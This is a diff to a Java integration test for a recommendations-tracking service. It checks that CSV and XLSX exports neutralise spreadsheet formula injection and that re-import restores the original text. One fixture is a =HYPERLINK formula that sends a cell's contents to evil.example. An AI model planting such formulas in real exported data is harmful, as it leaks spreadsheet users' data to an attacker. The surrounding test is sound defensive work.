@@ -54,6 +54,10 @@ class ExportTest {
     static final UUID R1 = UUID.fromString("e1000000-0000-0000-0000-000000000001");
     static final UUID R2 = UUID.fromString("e1000000-0000-0000-0000-000000000002");
     static final UUID PLAN = UUID.fromString("e3000000-0000-0000-0000-000000000001");
+    /** Text a spreadsheet program would run as a formula, and a genuine quote before an "=". */
+    static final String R2_TITLE = "=HYPERLINK(\"https://evil.example/?d=\"&B5,\"End the use of restraint beds\")";
+    static final String R2_TEXT = "'=A1 is how a spreadsheet shows a formula as text. Restraint beds should be removed.";
+    static final String R2_STANDARD = "@SPT guidance on restraint";
 
     @Autowired
     EventLog events;
@@ -84,10 +88,10 @@ class ExportTest {
                 .then(new FollowUpVisitRecorded(R1, UUID.randomUUID(), LocalDate.of(2026, 4, 10), PRISON, "规定已修订。",
                         ImplementationStatus.IN_PROGRESS), "analyst", at(LocalDate.of(2026, 4, 11)));
         events.recommendation(R2)
-                .then(new RecommendationIssued(R2, "2025/T-2/R-1", "End the use of restraint beds",
-                        "Restraint beds should be removed.", "en", LocalDate.of(2025, 11, 1),
+                .then(new RecommendationIssued(R2, "2025/T-2/R-1", R2_TITLE, R2_TEXT, "en", LocalDate.of(2025, 11, 1),
                         new Source(SourceKind.THEMATIC_REPORT, null), null, List.of(MINISTRY), List.of("use-of-force"),
-                        Scope.SYSTEMIC, Priority.NORMAL, List.of(), null, true), "analyst", at(LocalDate.of(2025, 11, 2)));
+                        Scope.SYSTEMIC, Priority.NORMAL, List.of(R2_STANDARD), null, true), "analyst",
+                        at(LocalDate.of(2025, 11, 2)));
         await().atMost(Duration.ofSeconds(30)).until(() -> {
             ResponseEntity<String> list = http.getForEntity("/api/recommendations?q=建议-1", String.class);
             ResponseEntity<String> all = http.getForEntity("/api/recommendations", String.class);
@@ -187,6 +191,34 @@ class ExportTest {
 
         ResponseEntity<byte[]> responses = http.getForEntity("/api/exports/recommendations.csv?sheet=responses", byte[].class);
         assertThat(SheetReader.read(responses.getBody(), FileFormat.CSV, Sheet.RESPONSES).get(Sheet.RESPONSES)).hasSize(1);
+    }
+
+    @Test
+    void noCellOpensAsAFormulaAndTheImportReadsBackWhatWasRecorded() throws Exception {
+        String csv = new String(http.getForEntity("/api/exports/recommendations.csv?sort=reference", byte[].class).getBody(),
+                java.nio.charset.StandardCharsets.UTF_8).substring(1);
+        try (org.apache.commons.csv.CSVParser parser = org.apache.commons.csv.CSVParser.parse(csv,
+                org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
+            org.apache.commons.csv.CSVRecord r2 = parser.getRecords().get(0);
+            assertThat(r2.get("title")).isEqualTo("'" + R2_TITLE);
+            assertThat(r2.get("text")).isEqualTo("'" + R2_TEXT);
+            assertThat(r2.get("standards")).isEqualTo("'" + R2_STANDARD);
+        }
+        byte[] xlsx = http.getForEntity("/api/exports/recommendations.xlsx?sort=reference", byte[].class).getBody();
+        try (org.apache.poi.xssf.usermodel.XSSFWorkbook workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(
+                new java.io.ByteArrayInputStream(xlsx))) {
+            org.apache.poi.ss.usermodel.Cell title = workbook.getSheetAt(0).getRow(1).getCell(1);
+            assertThat(title.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(title.getStringCellValue()).isEqualTo("'" + R2_TITLE);
+        }
+        for (Map<Sheet, List<SheetRow>> read : List.of(SheetReader.read(xlsx, FileFormat.XLSX, null),
+                SheetReader.read(("\uFEFF" + csv).getBytes(java.nio.charset.StandardCharsets.UTF_8), FileFormat.CSV,
+                        Sheet.RECOMMENDATIONS))) {
+            SheetRow r2 = read.get(Sheet.RECOMMENDATIONS).get(0);
+            assertThat(r2.value("title")).isEqualTo(R2_TITLE);
+            assertThat(r2.value("text")).isEqualTo(R2_TEXT);
+            assertThat(r2.value("standards")).isEqualTo(R2_STANDARD);
+        }
     }
 
     @Test
